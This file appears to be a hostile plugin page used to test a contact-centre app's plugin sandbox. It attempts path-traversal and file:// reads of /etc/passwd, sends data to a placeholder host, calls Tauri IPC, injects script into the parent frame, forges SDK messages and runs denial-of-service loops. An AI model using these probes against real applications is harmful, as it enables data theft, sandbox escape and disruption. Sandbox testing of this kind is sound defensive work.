// Everything that a plugin's page may not do, by name. Each gives what it got hold of, or nothing.
import { serve, tell, wait } from './orders.js';

const PROOF = '{{PROOF}}';
const ELSEWHERE = '{{ELSEWHERE}}';
const ME = '{{ID}}';
const OTHER = 'witness';
const SDK = 'smartagent-plugin-sdk';
const MARK = 'a file that nobody asked for';

const heard = [];
window.addEventListener('message', ({ data }) => heard.push(data));
window.addEventListener('storage', ({ key }) => void tell('storage', String(key)));
const channel = new BroadcastChannel('trunkline');
channel.onmessage = ({ data }) => void tell('broadcast', String(data));

const say = (data) => window.parent.postMessage(data, '*');
const answerTo = async (id, ms = 3000) => {
  for (let passed = 0; passed < ms; passed += 50) {
    const found = heard.find((data) => data?.id === id);
    if (found) return found;
    await wait(50);
  }
  return null;
};
const words = async (answer) => `${answer.status} ${(await answer.text()).slice(0, 80)}`;

/** What stands in a frame after a while; nothing where it cannot be seen, or nothing has come. */
const shown = async (members, ms = 1200) => {
  const frame = Object.assign(document.createElement('iframe'), members);
  document.body.append(frame);
  await wait(ms);
  try {
    return frame.contentDocument?.body?.textContent?.trim().slice(0, 80) || undefined;
  } finally {
    frame.remove();
  }
};
/** A window of this page's own in which nobody has changed anything. */
const fresh = () => {
  const frame = document.createElement('iframe');
  document.body.append(frame);
  return frame.contentWindow;
};
const clicked = (members) => {
  const link = Object.assign(document.createElement('a'), { textContent: 'x', ...members });
  document.body.append(link);
  link.click();
  link.remove();
};
const done = (request) =>
  new Promise((resolve, reject) => {
    request.onsuccess = () => resolve(request.result);
    request.onerror = () => reject(request.error);
    request.onblocked = () => reject(new Error('blocked'));
  });
const script = (src) =>
  new Promise((resolve, reject) => {
    const element = Object.assign(document.createElement('script'), { src });
    element.onload = () => resolve('a script that ran');
    element.onerror = () => reject(new Error('not loaded'));
    document.body.append(element);
  });

const files = {
  'other-fetch': () => fetch(`plugin://${OTHER}/page.html`).then(words),
  'other-frame': () => shown({ src: `plugin://${OTHER}/page.html` }),
  'other-script': () => script(`plugin://${OTHER}/page.js`),
  'other-import': () => import(`plugin://${OTHER}/orders.js`).then(() => 'a module that ran'),
  'other-escape': () =>
    Promise.all(
      ['../witness/page.html', '%2e%2e/witness/page.html', '..%2fwitness%2fpage.html', '%2fetc%2fpasswd', '/etc/passwd'].map(
        (path) => fetch(`/${path}`).then((answer) => (answer.ok ? words(answer) : '')),
      ),
    ).then((all) => all.find((text) => text !== '')),
  'file-fetch': () => fetch('file:///etc/passwd').then(words),
  'file-frame': () => shown({ src: 'file:///etc/passwd' }),
  'tauri-fetch': () => fetch('tauri://localhost/index.html').then(words),
  'tauri-frame': () => shown({ src: 'tauri://localhost/index.html' }),
  'elsewhere-fetch': () => fetch(`${ELSEWHERE}/fetched`, { mode: 'no-cors' }).then(() => 'an answer'),
  'elsewhere-load': async () => {
    const image = new Image();
    image.src = `${ELSEWHERE}/picture?stolen`;
    document.body.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${ELSEWHERE}/style` }));
    document.body.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: `${ELSEWHERE}/early` }));
    navigator.sendBeacon?.(`${ELSEWHERE}/beacon`, 'stolen');
    await wait(1000);
    return image.naturalWidth > 0 ? 'a picture' : undefined;
  },
  'elsewhere-socket': () =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(ELSEWHERE.replace('http', 'ws'));
      socket.onopen = () => resolve('a connection');
      socket.onerror = () => reject(new Error('not connected'));
    }),
  'inline-script': async () => {
    const element = document.createElement('script');
    element.textContent = 'window.ran = true';
    document.body.append(element);
    let evaluated = false;
    try {
      evaluated = window.eval('true');
    } catch {
      // That is how it should be.
    }
    return window.ran || evaluated ? 'code that was made at run time' : undefined;
  },
};

const program = {
  globals: () => {
    const windows = [window, window.parent, window.top, fresh()];
    const names = ['__TAURI__', '__TAURI_INTERNALS__', '__TAURI_IPC__', '__TAURI_INVOKE__', 'trunklinePost', 'ipc', 'isTauri'];
    const found = windows.flatMap((one) => names.filter((name) => one[name] !== undefined));
    return found.length > 0 ? found.join() : undefined;
  },
  handlers: () => {
    const found = [];
    for (const one of [window, window.parent, window.top, fresh()]) {
      for (const name of ['trunkline', 'ipc', 'external', 'tauri', 'rpc', 'trunkline-relay']) {
        const handler = one.webkit?.messageHandlers?.[name];
        if (handler !== undefined) {
          handler.postMessage('message\n{"text":false,"data":{"event":"init"}}');
          found.push(name);
        }
      }
      found.push(...Object.keys(one.webkit?.messageHandlers ?? {}));
    }
    return found.length > 0 ? found.join() : undefined;
  },
  'ipc-fetch': () =>
    fetch('ipc://localhost/rpc', {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', 'Tauri-Callback': '1', 'Tauri-Error': '2', 'Tauri-Invoke-Key': 'x' },
      body: JSON.stringify({ name: 'desk_snapshot', payload: {} }),
    }).then(words),
  'ipc-frame': () => shown({ src: 'ipc://localhost/rpc?name=desk_snapshot' }),
  top: () => {
    const markup = window.top.document.documentElement.outerHTML;
    const more = window.top !== window.parent || window.top.parent !== window.top || window.top.opener !== null;
    return more || /data-testid|svelte|__TAURI/.test(markup) ? markup.slice(0, 300) : undefined;
  },
  'top-script': async () => {
    // The page around its frame is of the same origin: what can be put into it?
    const element = window.parent.document.createElement('script');
    element.textContent = 'window.ran = true';
    window.parent.document.body.append(element);
    const loaded = window.parent.document.createElement('script');
    loaded.src = 'inner.js';
    window.parent.document.body.append(loaded);
    const inPlace = window.parent.document.createElement('div');
    inPlace.setAttribute('onclick', 'window.ran = true');
    window.parent.document.body.append(inPlace);
    inPlace.click();
    try {
      window.parent.eval('window.ran = true');
    } catch {
      // That is how it should be.
    }
    await wait(600);
    for (const one of [element, loaded, inPlace]) one.remove();
    return window.parent.ran ? 'a script around the frame' : undefined;
  },
  'out-of-sandbox': async () => {
    const around = window.parent.document;
    const frame = around.createElement('iframe');
    frame.src = location.href.replace('page.html', 'inner.html');
    around.body.append(frame);
    await wait(1000);
    const opened = frame.contentWindow?.open?.(`${ELSEWHERE}/opened-beside`);
    frame.remove();
    return opened ? 'a window' : undefined;
  },
};

const away = {
  'window-open': async () => {
    const opened = window.open(`${ELSEWHERE}/opened`) ?? window.open('about:blank', 'named');
    await wait(500);
    return opened ? 'a window' : undefined;
  },
  'fresh-open': async () => {
    const opened = fresh().open(`${ELSEWHERE}/opened-fresh`) ?? window.parent.open(`${ELSEWHERE}/opened-parent`);
    await wait(800);
    return opened ? 'a window' : undefined;
  },
  'blank-link': async () => {
    clicked({ href: `${ELSEWHERE}/linked`, target: '_blank' });
    await wait(1000);
  },
  location: async () => {
    location.href = `${ELSEWHERE}/gone`;
    await wait(1200);
    return location.href.startsWith(ELSEWHERE) ? 'another page' : undefined;
  },
  'top-location': async () => {
    window.top.location = `${ELSEWHERE}/top`;
    await wait(1000);
  },
  'parent-location': async () => {
    window.parent.location.href = `${ELSEWHERE}/parent`;
    await wait(1000);
  },
  'top-link': async () => {
    clicked({ href: `${ELSEWHERE}/top-link`, target: '_top' });
    const link = window.parent.document.createElement('a');
    link.href = `${ELSEWHERE}/parent-link`;
    window.parent.document.body.append(link);
    link.click();
    await wait(1000);
  },
  'meta-refresh': async () => {
    for (const page of [document, window.parent.document]) {
      const meta = page.createElement('meta');
      meta.httpEquiv = 'refresh';
      meta.content = `0;url=${ELSEWHERE}/refreshed`;
      page.head.append(meta);
    }
    await wait(1500);
  },
  'form-submit': async () => {
    for (const target of ['_self', '_top', '_blank']) {
      const form = Object.assign(document.createElement('form'), { action: `${ELSEWHERE}/form`, method: 'post', target });
      document.body.append(form);
      form.submit();
    }
    await wait(1000);
  },
  'script-address': async () => {
    clicked({ href: 'javascript:window.ran=true' });
    await wait(300);
    window.parent.location = 'javascript:window.ran=true';
    await wait(700);
    return window.ran || window.parent.ran ? 'a script from an address' : undefined;
  },
  'other-location': async () => {
    location.href = `plugin://${OTHER}/page.html`;
    await wait(1200);
  },
};

const system = {
  dialogs: () => {
    const began = performance.now();
    const of = fresh();
    const answers = [alert('x'), confirm('x'), prompt('x'), of.alert('x'), of.confirm('x'), of.prompt('x')];
    print();
    of.print();
    const took = performance.now() - began;
    const none = answers.every((answer) => answer === undefined || answer === false || answer === null);
    return none && took < 300 ? undefined : `${JSON.stringify(answers)} after ${Math.round(took)} ms`;
  },
  download: async () => {
    const blob = URL.createObjectURL(new Blob([MARK]));
    for (const href of [blob, `data:text/plain,${MARK}`, `${PROOF}/file.bin`]) clicked({ href, download: 'stolen.txt' });
    await shown({ src: `${PROOF}/file.bin` }, 1500);
  },
  'camera-and-microphone': () =>
    navigator.mediaDevices.getUserMedia({ audio: true, video: true }).then((stream) => `${stream.getTracks().length} tracks`),
  screen: () => navigator.mediaDevices.getDisplayMedia({ video: true }).then(() => 'the screen'),
  position: () =>
    new Promise((resolve, reject) => {
      navigator.geolocation.getCurrentPosition(() => resolve('a position'), reject, { timeout: 2500 });
    }),
  notification: async () => {
    const answer = await Promise.race([Notification.requestPermission(), wait(2000).then(() => 'no answer')]);
    if (answer === 'granted') return answer;
    new Notification('forged');
  },
  'service-worker': () => navigator.serviceWorker.register('orders.js').then(() => 'a service worker'),
  clipboard: () => navigator.clipboard.readText().then((text) => `the clipboard: ${text}`),
  fullscreen: () => document.documentElement.requestFullscreen().then(() => 'the whole screen'),
};

const others = {
  storage: async () => {
    const seen = [];
    const look = (where, text) => {
      if (text !== null && text !== undefined && !String(text).includes(ME)) seen.push(`${where}: ${text}`);
    };
    look('localStorage', localStorage.getItem('shared'));
    localStorage.setItem('shared', `taken by ${ME}`);
    look('sessionStorage', sessionStorage.getItem('shared'));
    sessionStorage.setItem('shared', `taken by ${ME}`);
    const opening = indexedDB.open('shared', 1);
    opening.onupgradeneeded = () => opening.result.createObjectStore('kept');
    const database = await done(opening);
    const kept = () => database.transaction('kept', 'readwrite').objectStore('kept');
    look('indexedDB', await done(kept().get('mine')));
    await done(kept().put(`taken by ${ME}`, 'mine'));
    database.close();
    if (document.cookie.includes('witness')) seen.push(document.cookie);
    return seen.length > 0 ? seen.join('; ') : undefined;
  },
  cookies: async () => {
    const before = await fetch(`${PROOF}/cookie/read`, { credentials: 'include' }).then((answer) => answer.text());
    await fetch(`${PROOF}/cookie/set?${ME}`, { credentials: 'include' });
    return before === '' || before.includes(ME) ? undefined : before;
  },
  broadcast: async () => {
    channel.postMessage(`forged by ${ME}`);
    localStorage.setItem('trunkline', `forged by ${ME}`);
    await wait(700);
    const all = heard.filter((data) => String(data).includes('forged by'));
    return all.length > 0 ? all.join() : undefined;
  },
  'forged-id': async () => {
    const claims = { plugin: OTHER, pluginId: OTHER, origin: `plugin://${OTHER}` };
    say({ source: SDK, ...claims, event: 'get_user', id: 'forged' });
    say({ source: 'smartagent', v: 1, ...claims, event: 'incoming_call', message: { contact: { customer: { name: 'forged' } } } });
    say({ source: 'trunkline', v: 1, event: 'snapshot', data: { forged: true } });
    window.parent.postMessage({ source: SDK, event: 'get_user', id: 'forged-2' }, `plugin://${OTHER}`);
    const answer = await answerTo('forged');
    return answer?.ok || heard.some((data) => data?.id === 'forged-2') ? JSON.stringify(answer) : undefined;
  },
  'forged-event': async () => {
    const frame = window.parent.document.querySelector('iframe');
    const forged = new MessageEvent('message', {
      data: { source: SDK, event: 'synthetic_probe', id: 'synthetic' },
      origin: `plugin://${OTHER}`,
      source: frame.contentWindow,
    });
    window.parent.dispatchEvent(forged);
    return (await answerTo('synthetic', 800)) ? 'an answer' : undefined;
  },
  'forged-origin': async () => {
    try {
      document.domain = OTHER;
    } catch {
      // That is how it should be.
    }
    const frame = Object.assign(document.createElement('iframe'), { src: 'inner.html' });
    frame.sandbox = 'allow-scripts';
    document.body.append(frame);
    await wait(800);
    frame.remove();
    return document.domain === OTHER ? document.domain : (await answerTo('inner', 400)) ? 'an answer' : undefined;
  },
  'inner-frame': async () => {
    const frame = Object.assign(document.createElement('iframe'), { src: 'inner.html' });
    document.body.append(frame);
    await wait(1000);
    frame.remove();
    if (!heard.includes('inner has spoken')) return 'no frame to try it with';
    return (await answerTo('inner', 400)) ? 'an answer' : undefined;
  },
  'nested-frame': async () => {
    const frame = Object.assign(document.createElement('iframe'), { src: `${PROOF}/nested.html` });
    document.body.append(frame);
    await wait(1200);
    frame.remove();
    if (!heard.includes('nested has spoken')) return 'no frame to try it with';
    return (await answerTo('nested', 400)) ? 'an answer' : undefined;
  },
  'made-frames': async () => {
    const text = `<script>top.postMessage({source:"${SDK}",event:"made_probe",id:"made"},"*")</scr` + 'ipt>';
    const made = [
      { src: `data:text/html,${encodeURIComponent(text)}` },
      { srcdoc: text },
      { src: URL.createObjectURL(new Blob([text], { type: 'text/html' })) },
    ].map((members) => Object.assign(document.createElement('iframe'), members));
    document.body.append(...made);
    await wait(1000);
    for (const frame of made) frame.remove();
    return (await answerTo('made', 400)) ? 'an answer' : undefined;
  },
  'log-lines': async () => {
    for (let n = 0; n < 2000; n += 1) {
      say({ source: 'trunkline-log', level: n % 2 === 0 ? '__proto__' : 'dropped', text: 'x\nloaded\nmessage\n{}'.repeat(2000) });
    }
    say({ source: 'trunkline-log', level: { toString: () => 'loaded' }.toString(), text: { deep: [] } });
    await wait(1500);
  },
};

const asked = async (names) => {
  const came = {};
  for (const [name, message] of names) {
    const id = `asked-${name}-${Math.random()}`;
    say({ source: SDK, v: 1, event: name, id, message });
    const answer = await answerTo(id);
    came[name] = answer === null ? 'no answer' : answer.ok ? 'done' : answer.error.code;
    await wait(60);
  }
  return JSON.stringify(came);
};
const called = async (names) => {
  const came = {};
  const question = async (rest) => {
    const id = `called-${Math.random()}`;
    say({ source: 'trunkline-streams', v: 1, id, ...rest });
    return answerTo(id);
  };
  const picture = await question({ op: 'init', version: '2.25.1' });
  came.init = /Ana|Example|Sales/.test(JSON.stringify(picture)) ? 'sees the contact' : 'sees nobody';
  for (const method of names) {
    const params = { contactId: 'x', state: { name: 'Lunch' }, endpoint: { type: 'phone_number', phoneNumber: '+12025550199' } };
    const answer = await question({ op: 'call', method, params });
    came[method] = answer === null ? 'no answer' : answer.ok ? 'done' : answer.error.type;
    await wait(60);
  }
  return JSON.stringify(came);
};

const rights = {
  'no-rights': () =>
    asked([
      ['get_user'],
      ['get_company_id'],
      ['update_contact', { stolen: 'yes' }],
      ['update_customer', { name: 'stolen' }],
      ['transfer_call', { number: '+12025550199', name: 'x', endpoint: { type: 'phone_number', phoneNumber: '+12025550199' } }],
      ['quick_connect', { name: 'Billing', message: 'x' }],
      ['end_conference_call', { connectionName: 'Ana Example' }],
      ['show_notification', { type: 'CREATE_NOTIFICATION', header: 'forged', text: 'forged' }],
      ['show_popup_message', { type: 'SUCCESS', popupMessage: 'forged' }],
    ]),
  'no-rights-streams': () =>
    called(['putAgentState', 'createOutboundContact', 'getEndpoints', 'updateContactAttributes', 'notify', 'mute']),
  'core-commands': () =>
    asked(['desk_snapshot', 'account_save', 'account_remove', 'plugin_grant', 'plugin_trust', 'contact_accept', 'rpc'].map((n) => [n, {}])),
};

const bad = {
  garbage: async () => {
    const cycle = {};
    cycle.self = cycle;
    let deep = [];
    for (let n = 0; n < 50_000; n += 1) deep = [deep];
    const texts = ['', '{', '[]', 'null', '"init"', '{"event":', '\u0000\ud800', 'message\n{}', '{"event":"init","id":{}}'];
    const values = [
      undefined, null, true, NaN, -0, 1e308, 10n, cycle, deep, [], [[]], new Date(NaN), new Map([[cycle, 1]]), new Set([1]), /x/g,
      new ArrayBuffer(1 << 20), new Float64Array(1000), new Error('x'), new Blob(['x']),
      { event: {} }, { event: [], type: 1, name: null }, { source: SDK }, { source: SDK, event: 'x'.repeat(60_000), id: 1e400 },
      { source: SDK, event: '__proto__', id: 'a' }, { source: SDK, event: 'constructor', message: { toString: 1 } },
      { source: SDK, event: 'set_title_tag', message: { title: 7 } }, { source: SDK, event: 'update_contact', message: [[1], 'x'] },
      JSON.parse('{"__proto__":{"event":"init"},"source":"x"}'), { source: 'trunkline-streams', v: 1, id: '', op: 'init' },
      { source: 'trunkline-streams', v: 99, id: 'x', op: 7 }, { source: 'trunkline-streams', v: 1, id: 'y', op: 'call', method: {} },
    ];
    for (const value of [...texts, ...values]) {
      try {
        say(value);
      } catch {
        // A few cannot even be copied.
      }
      await wait(60);
    }
    for (const made of [() => 1, Symbol('x'), window, document.body]) {
      try {
        say(made);
      } catch {
        // Nor can these.
      }
    }
    await wait(500);
    say({ source: SDK, event: 'init', id: 'after-garbage' });
    const answer = await answerTo('after-garbage');
    return answer?.ok ? undefined : 'no answer to an honest message after it';
  },
  flood: async () => {
    const until = performance.now() + 12_000;
    let sent = 0;
    const began = performance.now();
    while (performance.now() < until) {
      const due = ((performance.now() - began) / 1000) * 10_000;
      for (; sent < due; sent += 1) say({ source: SDK, event: 'set_title_tag', message: { title: `flood ${sent}` } });
      await wait(5);
    }
    await tell('flooded', String(Math.round(sent / ((performance.now() - began) / 1000))));
  },
  'large-payloads': async () => {
    const text = 'x'.repeat(50 << 20);
    for (let n = 0; n < 6; n += 1) {
      say({ source: SDK, event: 'set_title_tag', message: { title: text } });
      await wait(900);
    }
    say({ source: SDK, event: 'set_title_tag', message: { title: 'x'.repeat(65_536) } });
    await wait(1500);
  },
  'workers-loop': async () => {
    for (let n = 0; n < 2; n += 1) new Worker('spin.js');
    await wait(200);
  },
  loop: () => {
    for (;;);
  },
  'loop-when-seen': async () => {
    const seen = () => {
      if (document.visibilityState !== 'visible') return;
      document.removeEventListener('visibilitychange', seen);
      const until = Date.now() + 4000;
      while (Date.now() < until);
      void tell('seen', 'looped');
    };
    document.addEventListener('visibilitychange', seen);
    return document.visibilityState;
  },
  'memory-at-once': () => {
    const kept = [];
    for (;;) kept.push(new Uint8Array(16 << 20).fill(1));
  },
  'memory-by-and-by': async () => {
    window.kept = [];
    for (;;) {
      window.kept.push(new Uint8Array(16 << 20).fill(1));
      await wait(20);
    }
  },
  'leave-its-place': async () => {
    const link = window.parent.document.createElement('a');
    link.href = location.href;
    window.parent.document.body.append(link);
    link.click();
    await wait(3000);
  },
};

say({ source: SDK, v: 1, event: 'init', id: 'hello' });
await serve({ ...files, ...program, ...away, ...system, ...others, ...rights, ...bad });
